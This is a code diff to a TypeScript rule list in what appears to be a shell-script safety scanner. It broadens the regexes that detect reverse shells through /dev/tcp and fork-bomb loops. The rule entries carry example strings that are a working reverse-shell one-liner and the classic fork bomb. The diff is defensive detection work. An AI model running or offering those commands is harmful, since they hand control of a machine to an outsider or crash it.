@@ -454,7 +454,7 @@ export const scriptRules: ScriptRule[] = [
     level: "critical",
     trigger: /\/dev\/(tcp|udp)\//,
     pattern:
-      /\/dev\/(tcp|udp)\/\S+.*\b(sh|bash|zsh|dash|ksh)\b\s*(-i\b|[<>]&)|\b(sh|bash|zsh|dash|ksh)\b\s+-i\b.*\/dev\/(tcp|udp)\//,
+      /\bexec\s+\d+<>\s*\/dev\/(tcp|udp)\/\S+.*[<>]&\s*\d|\/dev\/(tcp|udp)\/\S+.*\b(sh|bash|zsh|dash|ksh)\b\s*(-i\b|[<>]&)|\b(sh|bash|zsh|dash|ksh)\b\s+-i\b.*\/dev\/(tcp|udp)\//,
     message:
       "Connects a shell to a network socket: someone else would control this machine (a reverse shell).",
     example: "exec 5<>/dev/tcp/10.0.0.1/4242; sh <&5 >&5 2>&5",
@@ -462,9 +462,9 @@ export const scriptRules: ScriptRule[] = [
   {
     id: "fork-bomb",
     level: "critical",
-    trigger: /\(\s*\)|fork|\$0|%0/,
+    trigger: /\(\s*\)|fork|\$0|%0|&\s*;?\s*done/,
     pattern:
-      /([\w:.]+)\s*\(\)\s*\{[^}]*\1\s*\|\s*\1\s*&[^}]*\}\s*;?\s*\1|\bfork\s*(while|until)\s*fork|while\s*\(?\s*(true|1|:)\s*\)?\s*;?\s*do\s+(\$0|"\$0")\s*[&|]|os\.fork\(\)\s*while|while\s*1\s*:\s*os\.fork|%0\s*\|\s*%0|\$0\s*&\s*\$0\s*&/,
+      /([\w:.]+)\s*\(\)\s*\{[^}]*\1\s*\|\s*\1\s*&[^}]*\}\s*;?\s*\1|\bfork\s*(while|until)\s*fork|while\s*\(?\s*(true|1|:)\s*\)?\s*;?\s*do\s+(\$0|"\$0")\s*[&|]|os\.fork\(\)\s*while|while\s*1\s*:\s*os\.fork|%0\s*\|\s*%0|\$0\s*&\s*\$0\s*&|\bwhile\s+(true|:|1|\[\s*1\s*\])\s*;\s*do\s+[^;]*[^;&]&\s*;?\s*done/,
     message: "A fork bomb: it copies itself until the machine runs out of processes and freezes.",
     example: ":(){ :|:& };:",
   },
